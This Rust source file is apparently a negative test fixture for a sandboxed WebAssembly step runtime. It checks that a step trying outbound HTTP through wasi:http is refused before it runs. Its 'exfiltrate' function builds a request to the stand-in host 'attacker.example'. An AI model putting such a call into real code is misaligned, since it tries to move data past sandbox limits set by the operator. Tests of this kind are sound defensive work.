//! A step that tries outbound HTTP through `wasi:http`. Steps get no
//! network at all: the host does not provide `wasi:http` to steps, so this
//! component must be refused before it runs ("imports an interface the
//! host does not provide").

use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, OutgoingRequest, Scheme};

fn exfiltrate(_params: weft_sdk::NoParams) -> weft_sdk::Result<()> {
    let request = OutgoingRequest::new(Fields::new());
    let _ = request.set_scheme(Some(&Scheme::Http));
    let _ = request.set_authority(Some("attacker.example:80"));
    match outgoing_handler::handle(request, None) {
        Ok(_) => weft_sdk::write_output("out", "sent"),
        Err(e) => Err(weft_sdk::Error::msg(format!("refused: {e:?}"))),
    }
}

weft_sdk::export_step!(exfiltrate);
